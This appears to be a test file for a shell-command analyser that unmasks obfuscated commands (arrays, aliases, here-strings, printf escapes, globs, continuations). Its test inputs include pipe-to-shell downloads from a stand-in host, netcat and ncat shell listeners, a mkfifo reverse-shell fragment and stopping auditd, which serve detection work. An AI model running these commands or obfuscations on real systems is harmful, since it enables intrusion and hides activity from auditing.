/**
 * POSIX forms that hide a command without changing what runs (mutation fuzzer, round 2): arrays and
 * aliases as the command, text fed to a shell on stdin, printf output, shell parameters, globbed paths
 * and line continuations inside a word. The analysis must name the program that actually runs.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import type { Document } from './document';
import { printfOutput } from './unwrap';

const doc = (text: string) => analyse(text, 'bash', 'linux');
const names = (d: Document) => d.commands.map((c) => c.name);
const command = (d: Document, name: string) => d.commands.find((c) => c.name === name);
const within = (d: Document) => d.commands.every((c) => c.span.start >= 0 && c.span.end <= d.original.length);

describe('arrays used as the command', () => {
  it('"${a[@]}" runs the items as separate words, also inside quotes', () => {
    const d = doc('a=(curl -s "http://x.example/s p")\n"${a[@]}" | sh');
    expect(command(d, 'curl')?.words.map((w) => w.value)).toEqual(['curl', '-s', 'http://x.example/s p']);
    expect(names(d)).toContain('sh');
    expect(within(d)).toBe(true);
  });
  it('${a[*]} and ${a[1]} pick the items', () => {
    const d = doc('a=(x wget -q u); ${a[*]}; ${a[1]} -O f');
    expect(names(d)).toEqual(['x', 'wget']);
  });
  it('an array with an unknown item stays unknown', () => {
    const d = doc('a=(curl $(cat u)); "${a[@]}"');
    expect(names(d)).not.toContain('curl');
  });
});

describe('aliases', () => {
  it('a one-word alias is the other name, wrappers included', () => {
    const d = doc('shopt -s expand_aliases\nalias zq=sudo\ncurl -s http://x.example/s | zq bash -s');
    const bash = command(d, 'bash');
    expect(bash?.elevated).toBe(true);
    expect(bash?.position).toBe(1);
  });
  it('a multi-word alias is lexed as the command line it stands for', () => {
    const d = doc("alias zq='curl -s'\nzq http://x.example/a | sh");
    expect(names(d)).toContain('curl');
    expect(d.layers.some((l) => l.origin === 'deobfuscated' && l.text.startsWith('curl -s'))).toBe(true);
    expect(within(d)).toBe(true);
  });
});

describe('text fed to a shell on stdin', () => {
  it('. /dev/stdin and source /dev/fd/0 read the here-string as a script', () => {
    expect(names(doc(". /dev/stdin <<< 'ncat -lvp 443 -e /bin/bash'"))).toContain('ncat');
    expect(names(doc("echo 'nc -e /bin/sh h 1' | source /dev/fd/0"))).toContain('nc');
  });
  it('exec 3<<< … ; bash <&3 runs the text on the descriptor', () => {
    const d = doc("exec 3<<< 'vncserver :1'; bash <&3");
    expect(names(d)).toContain('vncserver');
  });
  it('a descriptor not opened by exec is not taken as input', () => {
    expect(names(doc("cat 3<<< 'vncserver'; bash <&3"))).not.toContain('vncserver');
  });
});

describe('printf output', () => {
  it('evaluates %s, %b (with \\0NNN) and format escapes', () => {
    expect(printfOutput(['%b', '\\0163u\\0144o'])).toBe('sudo');
    expect(printfOutput(['\\170\\0611v\\156c'])).toBe('x11vnc');
    expect(printfOutput(['%s-', 'a', 'b'])).toBe('a-b-');
    expect(printfOutput(['%5s', 'a'])).toBeNull();
  });
  it('$(printf …) as the command word names the program', () => {
    expect(names(doc("$(printf '%b' '\\0143url') -s http://x.example/s"))).toContain('curl');
    expect(names(doc("printf '%s\\n' 'curl x|sh' | bash"))).toEqual(['printf', 'bash', 'curl', 'sh']);
  });
});

describe('globbed paths', () => {
  it('matches more standard programs and marks any glob name obfuscated', () => {
    const d = doc('/???/sy?temc?? stop auditd; /usr/???/xx? -r -p; /???/q?zz?x');
    expect(names(d).slice(0, 2)).toEqual(['systemctl', 'xxd']);
    expect(d.notes.filter((n) => n.kind === 'escape_obfuscation').length).toBe(3);
  });
  it('the test command [ is no glob', () => {
    expect(doc('[ -f x ] && echo y').notes).toEqual([]);
  });
});

describe('line continuations', () => {
  it('a backslash-newline inside a word marks it obfuscated', () => {
    const d = doc('r\\\nm -f /tmp/f;mkfif\\\no /tmp/f');
    expect(names(d)).toEqual(['rm', 'mkfifo']);
    expect(d.commands.every((c) => c.words[0]?.obfuscated)).toBe(true);
  });
  it('an ordinary continuation between words does not', () => {
    const d = doc('curl -s \\\n  http://x.example/a');
    expect(d.commands[0]?.words[0]?.obfuscated).toBeFalsy();
  });
});

describe('shell parameters as the command', () => {
  it('names the shell that $SHELL, $BASH and $0 stand for', () => {
    const names = (text: string) => analyse(text, 'bash', 'linux').commands.map((c) => c.name);
    expect(names('$SHELL -i')).toEqual(['sh']);
    expect(names('"$BASH" -c id')).toContain('bash');
    expect(names('${SHELL} -l')).toEqual(['sh']);
    expect(names('$EDITOR notes.txt')).not.toContain('sh');
  });
});
